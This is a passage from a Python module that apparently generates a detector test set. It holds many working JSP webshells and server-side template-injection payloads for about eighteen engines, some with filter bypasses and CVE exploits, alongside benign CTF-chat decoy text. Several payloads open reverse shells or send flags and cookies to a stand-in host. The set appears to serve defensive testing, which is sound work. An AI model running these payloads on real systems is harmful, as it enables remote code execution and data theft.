             "../../webapps/ROOT/x.jsp", "x.jspf", "x.jsp/", "x.jsp%00.png", "x.jsp%20"]
UP = ("upload", "rs-upload")
JSP: list[Entry] = [
    ('<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); '
     'BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; '
     'while ((l = r.readLine()) != null) { out.println(l); } %>', *UP),
    ('<%=new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream())'
     '.useDelimiter("\\\\A").next()%>', *UP),
    # "<%" blacklisted: JSP XML syntax
    ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>'
     'Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>', *UP),
    ('<jsp:scriptlet>out.print(new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("/flag"))));'
     '</jsp:scriptlet>', *UP),
    # "Runtime" blacklisted: unicode escapes in the Java source
    ('<% \\u0052untime.getRuntime().exec(request.getParameter("c")); %>', *UP),
    # Behinder-style AES shell (defineClass of posted bytes)
    ('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{'
     'U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if '
     '(request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c='
     'Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass()'
     '.getClassLoader()).g(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine())))'
     '.newInstance().equals(pageContext);}%>', *UP),
    ('<% new ProcessBuilder("sh","-c",request.getParameter("c")).redirectErrorStream(true).start(); %>', *UP),
    ('<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("c")); %>', *UP),
    ('<%@ page import="java.nio.file.*" %><%= new String(Files.readAllBytes(Paths.get("/flag"))) %>', *UP),
    # no scriptlets allowed at all: JSTL import of a local file
    ('<%@ taglib uri="http://java.sun.com/jsp/jstl/core" prefix="c" %><c:import url="file:///flag"/>', *UP),
    # magic-byte check on uploads: GIF header first
    ('GIF89a<% Runtime.getRuntime().exec(new String[]{"sh","-c",request.getParameter("c")}); %>', *UP),
    ('<%out.print(System.getenv("FLAG"));%>', *UP),
    # scriptlets disabled, EL enabled
    ('${pageContext.request.getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null)'
     '.exec(param.c)}', *UP),
    ('<%! public void jspInit(){ try { Runtime.getRuntime().exec("bash -c {echo,'
     + _b64s("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1") + '}|{base64,-d}|{bash,-i}"); } catch(Exception e){} } %>',
     *UP),
    ('<%@ page import="java.net.*,java.io.*" %><% Socket s=new Socket("203.0.113.7",4444); Process p=new '
     'ProcessBuilder("/bin/sh").redirectErrorStream(true).start(); %>', *UP),
]

# ---- ssti: jinja2. Target: Flask render_template_string
JINJA2: list[Entry] = [
    "{{config.__class__.__init__.__globals__['os'].popen('cat /flag').read()}}",
    # no "_" at all: attr() with \x5f escapes
    r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
    r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
    r"|attr('popen')('cat /flag')|attr('read')()}}",
    # no quotes: strings from another request parameter
    "{{lipsum.__globals__.os.popen(request.args.c).read()}}",
    # "{{" blacklisted: statement tag with print
    "{% print(lipsum.__globals__.os.popen('cat /flag').read()) %}",
    "{{joiner.__init__.__globals__.os.popen('id').read()}}",
    # subclass walk (no globals handy)
    "{{''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('cat flag.txt').read()}}",
    "{{self._TemplateReference__context.namespace.__init__.__globals__.os.popen('cat /flag').read()}}",
    # flag in the app config or environment
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__.current_app.config.FLAG}}",
    # length limit 12
    "{{config}}",
    "{{request.application.__globals__.__builtins__.open('/flag').read()}}",
    # "." and "[" blacklisted: |attr only, names via ~ concatenation
    "{%set c=dict(po=1,pen=2)|join%}{%set r=dict(re=1,ad=2)|join%}"
    "{{lipsum|attr('__globals__')|attr('get')('os')|attr(c)('cat /flag')|attr(r)()}}",
    # no egress except through the challenge host: pipe the flag out with nc
    "{{cycler.next.__globals__.__builtins__.__import__('os').system('cat /flag | nc 203.0.113.7 80')}}",
    # blind: boolean oracle on the flag
    "{% if config.FLAG.startswith('ctf{a') %}yes{% endif %}",
]

# ---- ssti: twig. Target: PHP Twig (1.x, 2.x, 3.x)
TWIG: list[Entry] = [
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("cat /flag")}}',
    "{{['cat /flag']|filter('system')}}",
    "{{['cat /flag','']|sort('passthru')}}",
    "{{['id']|map('system')|join}}",
    '{{{"<?php system($_GET[0]);?>":"/var/www/html/s.php"}|map("file_put_contents")}}',
    "{{'/flag'|file_excerpt(1,30)}}",
    "{{app.request.server.all|join(',')}}",
    '{{_self.env.setCache("ftp://203.0.113.7:2121")}}{{_self.env.loadTemplate("backdoor")}}',
    # no quotes: command and callable from the query string
    "{{[app.request.query.all|first]|map(app.request.query.all|last)|join}}",
    "{% set x = ['cat /flag']|filter('shell_exec') %}{{ x|join }}",
    # blind: reverse shell from inside a block
    "{% block b %}{{ ['bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"']|filter('exec') }}{% endblock %}",
]

# ---- ssti: freemarker. Target: Apache FreeMarker (2.3.x)
FREEMARKER: list[Entry] = [
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("cat /flag")}',
    '${"freemarker.template.utility.Execute"?new()("cat /flag")}',
    '[#assign e="freemarker.template.utility.Execute"?new()][=e("cat /flag")]',
    '<#assign oc="freemarker.template.utility.ObjectConstructor"?new()>'
    '${oc("java.lang.ProcessBuilder","cat","/flag").start()}',
    '<#assign jy="freemarker.template.utility.JythonRuntime"?new()><@jy>import os;os.system("cat /flag")</@jy>',
    # new() blocked by the resolver: read through the class loader of an exposed object
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/flag').toURL()"
    ".openStream().readAllBytes()?join(' ')}",
    # ?new() restricted by TemplateClassResolver: load Execute through an exposed object's class loader
    '<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass("freemarker.template.'
    'ObjectWrapper")><#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=cl.loadClass('
    '"freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("cat /flag")}',
    # "Execute" blacklisted
    '<#assign c="freemarker.template.utility.Ex"+"ecute">${c?new()("id")}',
    '${"freemarker.template.utility.Execute"?new()("bash -c {echo,' + _b64s("cat /flag > /tmp/f")
    + '}|{base64,-d}|bash")}',
    '<#assign v="freemarker.template.utility.Execute"?new()>${v("curl http://203.0.113.7/?f=$(cat /flag|base64)")}',
]

# ---- ssti: velocity. Target: Apache Velocity (Solr, Confluence, custom Java apps)
VELOCITY: list[Entry] = [
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null)'
    '.exec("cat /flag")',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
    "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('cat /flag'))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    '$class.inspect("java.lang.Runtime").type.getRuntime().exec("cat /flag").waitFor()',
    # Solr CVE-2019-17558: the custom template parameter
    ("v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))"
     "+%23set($ex=$rt.getRuntime().exec(%27cat%20/flag%27))+$ex.waitFor()", *RQ),
    # Confluence CVE-2019-3396: Widget Connector loads a remote Velocity template
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.youtube.com/watch?v=x",'
     '"width":"1","height":"1","_template":"ftp://203.0.113.7/cmd.vm"}}}', *JB),
    "${request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null)"
    ".exec('cat /flag')}",
    '#set($s="")#set($r=$s.getClass().forName("java.lang.Runtime").getRuntime())'
    '$r.exec("nc 203.0.113.7 4444 -e /bin/sh")',
    # "forName" blacklisted: VelocityTools ClassTool for every class
    '#set($str=$class.inspect("java.lang.String").type)#set($chr=$class.inspect("java.lang.Character").type)'
    '#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("cat /flag"))$ex.waitFor()'
    '#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))'
    '#end',
    # "#set" blacklisted: braced directives
    "#{set}($r=$x.class.forName('java.lang.Runtime'))$r.getRuntime().exec('id')",
    "$!{x.class.forName('java.lang.ProcessBuilder').getConstructor($x.class.forName('[Ljava.lang.String;'))"
    ".newInstance($x.split('cat /flag',' ')).start()}",
]

# ---- ssti: thymeleaf. Target: Spring MVC with Thymeleaf view names / templates from input
THYMELEAF: list[Entry] = [
    '__${T(java.lang.Runtime).getRuntime().exec("cat /flag")}__::.x',
    '__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("cat /flag").getInputStream()).next()}__::.x',
    "*{T(java.lang.Runtime).getRuntime().exec('cat /flag')}",
    # 3.0.12 blocks "T(": a space before the parenthesis
    '__${T (java.lang.Runtime).getRuntime().exec("cat /flag")}__::.x',
    "[[${T(java.lang.System).getenv('FLAG')}]]",
    "[(${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('cat /flag')"
    ".getInputStream())})]",
    '__${#response.addHeader("X-Flag",new String(T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths)'
    '.get("/flag"))))}__::.x',
    # no "T(" and no "new": reflection from a string literal
    "__${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'cat /flag')}__::.x",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\">x</p>",
]

# ---- ssti: erb. Target: Ruby ERB (Sinatra / Rails render inline)
ERB: list[Entry] = [
    "<%= `cat /flag` %>",
    "<%= system('cat /flag') %>",
    "<%= File.open('/flag').read %>",
    "<%= IO.popen('cat /flag').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV['FLAG'] %>",
    # no spaces
    "<%=`cat${IFS}/flag`%>",
    "<%= require 'open3'; Open3.capture2('cat /flag')[0] %>",
    # "<%=" blacklisted: a code tag that assigns, then a plain output tag
    "<% @x = File.read('/flag') %><%- @x -%>",
    # no quotes
    "<%= Kernel.const_get(:IO).popen(%w(cat /flag)).read %>",
]

# ---- ssti: smarty. Target: PHP Smarty 2/3
SMARTY: list[Entry] = [
    "{system('cat /flag')}",
    "{php}echo `cat /flag`;{/php}",
    '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[\'cmd\']); ?>",self::clearConfig())}',
    "{if system('cat /flag')}{/if}",
    "{fetch file='/flag'}",
    "{include file='file:/flag'}",
    '{self::getStreamVariable("file:///flag")}',
    # no quotes
    "{system($smarty.get.c)}",
    "{passthru(chr(105)|cat:chr(100))}",
    "{if readfile('/flag')}{/if}",
    # "system" blacklisted: {math} evaluates the equation, the function name in octal escapes
    '{math equation="(\\"\\163\\171\\163\\164\\145\\155\\")(\\"cat /flag\\")"}',
]

# ---- ssti: handlebars. Target: Node.js Handlebars (< 4.5.3 prototype access)
_HB = ('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
       '{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}'
       '{{this.push "CODE"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}'
       '{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}')
HANDLEBARS: list[Entry] = [
    _HB.replace("CODE", "return require('child_process').execSync('cat /flag');"),
    _HB.replace("CODE", "return process.mainModule.require('child_process').execSync('cat /flag');"),
    _HB.replace("CODE", "return process.mainModule.require('fs').readFileSync('/flag','utf8');"),
    _HB.replace("CODE", "return JSON.stringify(process.env);"),
    _HB.replace("CODE", "process.mainModule.require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh');"),
    # the same, laid out on lines (single-line filter)
    _HB.replace("}}{{", "}}\n{{").replace("CODE", "return process.mainModule.require('child_process')"
                                                  ".execSync('ls -la /');"),
    '{{#with (lookup this "constructor")}}{{#with (lookup this "constructor")}}'
    '{{this "return process.mainModule.require(\'child_process\').execSync(\'id\')"}}{{/with}}{{/with}}',
    # XSS through a triple-stash on an attacker-controlled partial
    "{{{'<img src=x onerror=fetch(`//203.0.113.7/?c=${document.cookie}`)>'}}}",
]

# ---- ssti: pug. Target: Node.js Pug (Jade) compiling user templates
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('cat /flag')}",
    "- global.process.mainModule.require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl 203.0.113.7/$(cat /flag|base64)')}()}",
    "= process.mainModule.require('fs').readFileSync('/flag','utf8')",
    "p= global.process.env.FLAG",
    "!{process.mainModule.require('child_process').execSync('cat /flag')}",
    "a(href=process.mainModule.require('child_process').execSync('cat /flag'))",
    # multi-line: unbuffered code block
    "-\n  var x = global.process.mainModule.require('child_process')\n  x.execSync('cp /flag public/f')\np done",
]

# ---- ssti: mako. Target: Python Mako (Pylons, Pyramid)
MAKO: list[Entry] = [
    "${__import__('os').popen('cat /flag').read()}",
    "<% import os; x=os.popen('cat /flag').read() %>${x}",
    "${self.module.cache.util.os.system('cat /flag')}",
    "${self.module.runtime.util.os.popen('cat /flag').read()}",
    "<%! import subprocess %>${subprocess.check_output(['cat','/flag'])}",
    "${open('/flag').read()}",
    '<%include file="/flag"/>',
    "% for l in [__import__('os').popen('cat /flag').read()]:\n${l}\n% endfor",
    # no quotes
    "${__import__(request.params.get(str(0))).popen(request.params.get(str(1))).read()}",
]

# ---- ssti: tornado. Target: Tornado templates (the "easy_tornado" cookie_secret challenge)
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen('cat /flag').read()}}",
    "{{__import__('os').popen('cat /flag').read()}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').system('cat /flag') %}",
    "{% apply __import__('os').system %}cat /flag{% end %}",
    "{{globals()['__builtins__']['open']('/flag').read()}}",
    "{% set x = __import__('subprocess').check_output(['cat','/flag']) %}{{x}}",
    '{% include "../../../../flag" %}',
]

# ---- ssti: nunjucks. Target: Node.js Nunjucks
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('cat /flag')\")()}}",
    "{{joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/flag','utf8')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{''.constructor.constructor(\"return process.mainModule.require('child_process').execSync('id')\")()}}",
    "{% set x = range.constructor(\"return process.env\")() %}{{x.FLAG}}",
    "{{range.constructor(\"return this.process.mainModule.require('child_process')"
    ".exec('nc 203.0.113.7 4444 -e /bin/sh')\")()}}",
    # "range", "cycler" and "joiner" blacklisted: a string's toString method leads to Function
    '{{ "".toString.constructor.call({},"return process")().mainModule.require("child_process")'
    '.execSync("cat /flag") }}',
    # "constructor" blacklisted: bracket with concatenation
    "{{range['constr'+'uctor']('return process.mainModule.require(\"child_process\").execSync(\"cat /flag\")')()}}",
]

# ---- ssti: ejs. Target: Node.js EJS (render with user data as options, or user templates)
EJS: list[Entry] = [
    "<%= process.mainModule.require('child_process').execSync('cat /flag') %>",
    "<%- global.process.mainModule.require('fs').readFileSync('/flag') %>",
    "<% process.mainModule.require('child_process').exec('nc 203.0.113.7 4444 -e /bin/sh') %>",
    # CVE-2022-29078: options from the query string
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('cat /flag > public/f.txt');s", *RQ),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return process.mainModule"
     ".require('child_process').execSync('cat /flag');", *RQ),
    # "<%" blacklisted, custom delimiter set through the same options
    ("settings[view options][delimiter]=$&name=<$= process.mainModule.require('child_process')"
     ".execSync('cat /flag') $>", *RQ),
    "<%= include('/flag') %>",
    # "require" blacklisted
    "<%= global.process.mainModule.constructor._load('child_process').execSync('cat /flag') %>",
]

# ---- ssti: pebble. Target: Pebble (Java)
PEBBLE: list[Entry] = [
    "{% set cmd = 'cat /flag' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('cat /flag') }}",
    '{% set ex = "".getClass().forName("java.lang.Runtime").getRuntime().exec("id") %}{{ ex }}',
    "{{ (1).TYPE.forName('java.lang.System').getenv('FLAG') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec('curl http://203.0.113.7/ -d @/flag') }}",
    '{{ "".getClass().forName("java.lang.ProcessBuilder").getConstructors()[0].newInstance(["cat","/flag"]).start() }}',
    "{{ beans.get(\"jdbcTemplate\").queryForList(\"select flag from flags\") }}",
]

# ---- ssti: razor. Target: ASP.NET Razor (RazorEngine compiling user templates)
RAZOR: list[Entry] = [
    '@System.Diagnostics.Process.Start("cmd.exe","/c type C:\\\\flag.txt > C:\\\\inetpub\\\\wwwroot\\\\f.txt")',
    '@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = '
    '"/c whoami"; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start(); '
    '@p.StandardOutput.ReadToEnd() }',
    '@System.IO.File.ReadAllText("C:\\\\flag.txt")',
    '@(System.Environment.GetEnvironmentVariable("FLAG"))',
    '@System.Diagnostics.Process.Start("powershell","-enc ' + base64.b64encode(
        "iwr http://203.0.113.7/?f=$(gc C:\\flag.txt)".encode("utf-16-le")).decode() + '")',
    '@Html.Raw(System.IO.File.ReadAllText("/flag"))',
    '@(new System.Net.WebClient().DownloadString("http://203.0.113.7/?f=" + System.IO.File.ReadAllText('
    '"C:\\\\flag.txt")))',
    '@{ System.IO.File.WriteAllText(Server.MapPath("~/s.aspx"), "<%@ Page Language=\\"C#\\" %><% '
    'System.Diagnostics.Process.Start(Request[\\"c\\"]); %>"); }',
]

# ---- ssti: go-templates. Target: Go text/template and html/template (Hugo, Gin, custom)
GO_TPL: list[Entry] = [
    "{{.}}",
    "{{ .System \"cat /flag\" }}",
    "{{ .ReadFile \"/flag\" }}",
    '{{define "T1"}}<script>fetch("//203.0.113.7/?c="+document.cookie)</script>{{end}}{{template "T1"}}',
    "{{ readFile \"/flag\" }}",
    "{{ os.ReadFile \"/flag\" }}",
    '{{ env "FLAG" }}',
    "{{ call .Exec \"cat /flag\" }}",
    '{{ readDir "/" }}',
    '{{ (resources.GetRemote "http://169.254.169.254/latest/meta-data/iam/security-credentials/").Content }}',
]

# ---- ssti: liquid. Target: Shopify Liquid / LiquidJS / Jekyll
LIQUID: list[Entry] = [
    "{% include '../../../../flag' %}",
    "{% render '/flag' %}",
    "{% include_relative ../../../../flag %}",
    "{% layout '../../../../flag' %}",
    "{% include '/proc/self/environ' %}",
    "{% for i in (1..1000000000) %}{% for j in (1..1000000000) %}x{% endfor %}{% endfor %}",
    "{{ '<img src=x onerror=alert(document.cookie)>' }}",
    "{% assign s = 'x' | append: '<script>alert(document.domain)</script>' %}{{ s }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJ),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-internal-ip", SSRF_INT),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_NAMES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadget", GADGETS),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TPL),
    ("ssti", "liquid", LIQUID),
]
SUB_CYCLES = {"log4shell": LOG4J_PLACES}
LATIN1_SUBS = {"java-serialization"}

# ----------------------------------------------------------------------------------------------------------------
# Placements
JSP_AT = [sub for _, sub, _ in FAMILIES].index("jsp-upload")   # a JSP source's file name turns with its entry


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["q", "expr", "name", "template", "url", "file", "data", "callback", "message", "filter"]
    rs_names = [*RS_NAMES, "input"]
    boundary = "----WebKitFormBoundaryCtf158xQ2"
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"   # parameter binding and pollution strings go as typed
    form_accept = "*/*"
    documents = True
    fit_fixed = True

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in LATIN1_SUBS

    def _p_raw_query(self, p: Put) -> Record:
        return _get("/api/users?" + self._raw(p))

    def _p_raw_form(self, p: Put) -> Record:
        return self._p_form(p._replace(raw=True))

    def _p_json(self, p: Put) -> Record:
        return _json("/api/users", {"email": "player@example.org", p.name: p.v})

    def _p_upload(self, p: Put) -> Record:
        name = JSP_NAMES[(p.k - JSP_AT) % len(JSP_NAMES)]
        body = self.multipart([("csrf_token", "t0k3n", None), ("file", p.v, name)])
        return request("POST", "/admin/users/import", body, self.multipart_type)

    def _p_rs_raw_query(self, p: Put) -> Record:
        return request("GET", p.path + "?" + self._raw(p))

    def _p_rs_raw_form(self, p: Put) -> Record:
        return self._p_rs_form(p._replace(raw=True))

    def _p_rs_upload(self, p: Put) -> Record:
        target = self.rs_upload if p.path in ("/", "/get", "/search") else p.path
        name = JSP_NAMES[(p.k - JSP_AT + 5) % len(JSP_NAMES)]
        return request("POST", target, self.multipart([("file", p.v, name)]), self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (CTF team chat, write-ups, training labs, release notes, searches,
# advisory links, profiles, file names, ordinary headers)
CHAT = [
    "gg everyone, we finished 14th in the qualifier! write-ups go in the team wiki by Sunday",
    "who's taking the web challenges this weekend? I can do the Flask one",
    "the jinja2 challenge had a blacklist on underscores, I'll post my notes after the CTF ends",
    "reminder: no flag sharing until the scoreboard freezes, that's the rule",
    "I spent 3 hours on the Node sandbox one and it turned out to be vm2, classic",
    "writeup for 'easy_tornado' is up, the trick was the cookie_secret in handler.settings",
    "does anyone have a good cheat sheet for SSTI detection? I keep confusing Twig and Jinja",
    "our staging EC2 now requires IMDSv2, the hop limit is set to 1",
    "heads up: log4j 2.17.1 is in the base image now, the scanner should stop complaining",
    "the Java deserialization lab in the training portal is broken, ysoserial isn't installed",
    "can we add a regex timeout to the search endpoint? someone pasted a giant pattern and it took 4s",
    "prototype pollution talk at the meetup was great, slides are on the meetup page",
    "I'm updating lodash to 4.17.21 across all services today",
    "PSA: Handlebars 4.7.8 fixes the last advisory we were tracking",
    "our Spring Boot services run on 3.2 now, Spring4Shell is long gone",
    "the metadata endpoint is blocked from pods by the network policy, tested it yesterday",
    "anyone know why Freemarker escapes my HTML twice? auto-escaping plus ?html I think",
    "Velocity templates in the old billing module need to be migrated to Thymeleaf",
    "the ERB partial for the invoice footer is missing a closing tag",
    "Smarty 4 upgrade for the legacy PHP shop is scheduled for next sprint",
    "learned today that Pug used to be called Jade, explains the old file names",
    "Mako is still used by our Alembic migration templates, don't delete it",
    "Tornado websocket handler keeps dropping connections after 60s, probably the proxy timeout",
    "Nunjucks filters are nice, we use them for the email templates",
    "EJS views in the admin panel will be replaced by React next quarter",
    "Pebble is what the Java team picked for the notification templates",
    "Razor pages: remember that @Html.Raw skips encoding, use it only for trusted markup",
    "Go templates: html/template escapes by context, text/template does not",
    "Liquid in our Jekyll docs site breaks when a page has {{ in a code block, wrap it in raw",
    "the Ruby YAML loader should be safe_load everywhere, I grepped and found two old calls",
    "Perl is still running the nightly report script, nobody wants to touch it",
    "data URIs for the tiny icons in the email template, keeps the HTML self-contained",
    "SSRF protection in the webhook service: we resolve the hostname and block private ranges",
    "fastjson was removed from the Java client last year, we use Jackson now",
    "XStream allowlist is configured in the import service, only our DTO package",
    "the CTF team practice session is Thursday 6pm, bring laptops",
    "picoCTF is a good start for the new interns, the web category is friendly",
    "HackTheBox retired the box we were doing, the write-up is public now",
    "OWASP Juice Shop runs in the training cluster at juice.training.internal",
    "PortSwigger Web Security Academy labs are free, do the SSTI ones first",
    "the gopher protocol is disabled in our curl build, confirmed with curl -V",
    "who owns the ProcessBuilder wrapper in the report exporter? it needs a timeout",
    "Runtime.getRuntime().availableProcessors() returns the container limit since Java 10",
    "we log User-Agent and Referer, but the logger is logback, not log4j",
    "please don't paste production stack traces with ClassLoader details in public channels",
    "the JSP pages in the legacy admin are being retired in Q3",
    "nodejs 20 LTS upgrade done; child_process usage is only in the build scripts",
    "there's an infinite loop in the retry logic when the token endpoint returns 429",
    "RAM usage spiked because a report allocated a huge array, fixed with streaming",
    "Alibaba Cloud region for the China launch is cn-hangzhou",
    "DigitalOcean droplet for the CTF infra is paid by the club, 2 vCPU",
    "our Azure functions use managed identity now, no more secrets in app settings",
    "GCP service accounts: prefer workload identity over JSON keys",
    "what's the team name for the CTF signup? I vote 'Segfault Sisters'",
    "flag format this year is ctf{...}, the admins confirmed in Discord",
    "the challenge author said the intended solution didn't need RCE at all, lol",
    "I wrote a small Python script to automate the blind boolean oracle, it's in our repo",
    "the OGNL injection in Struts was the root cause of the Equifax breach, good read",
    "Confluence is patched to 8.5.x on our side, security confirmed",
    "Tomcat 10 uses jakarta.* packages, so the old servlet imports fail to compile",
    "the Groovy script console on Jenkins is admin-only, and admins use SSO",
    "SnakeYAML 2.0 made SafeConstructor the default, finally",
    "the EL in our JSF pages is just #{bean.property} stuff, nothing dynamic",
    "SpEL is used in @PreAuthorize annotations in the API gateway",
    "JNDI lookups are disabled by default since log4j 2.16",
    "MVEL shows up in Drools rules, the fraud team uses it",
    "anyone tried Semgrep rules for detecting eval in Node code? looks useful",
    "lol the scoreboard went down for 20 minutes, the organizers' Redis ran out of memory",
    "new teammate intro: I mostly do crypto and some web, happy to help with Java challenges",
    "I'm documenting the metadata service hardening for the audit, send me your notes",
]

SEARCHES = [
    "ctf writeup jinja2", "ssti cheat sheet", "log4j advisory", "spring4shell patch", "prototype pollution lodash",
    "handlebars advisory", "freemarker template guide", "velocity template migration", "thymeleaf layout dialect",
    "erb partials", "smarty 4 upgrade", "pug mixins", "mako templates", "tornado websocket", "nunjucks filters",
    "ejs include", "pebble templates", "razor pages", "go html/template", "liquid jekyll",
    "imdsv2 hop limit", "gcp workload identity", "azure managed identity", "alibaba cloud ram role",
    "digitalocean droplet metadata", "java serialization filter", "jackson default typing",
    "xstream allowlist", "fastjson removal", "ognl struts history", "spel annotations",
    "node vm2 deprecated", "child process timeout", "regex timeout node", "perl report script",
    "ruby yaml safe_load", "php data uri images", "gopher protocol curl", "ssrf protection webhook",
    "jsp migration plan",
]

PROSE = [
    "Write-up: the template challenge filtered underscores and dots, so the intended path was the attr filter. "
    "Full notes in the team wiki.",
    "Customer asked whether our webhook feature can call internal IPs. Answer: no, private ranges and the "
    "metadata address are blocked after DNS resolution.",
    "Training lab reset: the SSTI, SSRF and deserialization labs were restored from the snapshot at 09:00.",
    "Release notes 4.12: upgraded log4j to 2.23, removed fastjson, enabled Jackson polymorphic type validation.",
    "Incident review: a user's search pattern caused a slow regular expression; we added a 100 ms timeout.",
    "Security training slide 12: never pass user input to eval, Function, vm.runInContext or child_process.exec.",
    "Support ticket: the invoice template shows {{ customer.name }} literally; the template engine was not run.",
    "Please migrate Velocity and FreeMarker templates to Thymeleaf before the Java 21 upgrade.",
    "The Ruby service now uses YAML.safe_load with permitted_classes: [Date, Time].",
    "Our Perl nightly job opens files with the three-argument form of open, reviewed in PR 482.",
    "Architecture note: the PDF renderer fetches images only from the CDN allowlist, no file:// or gopher://.",
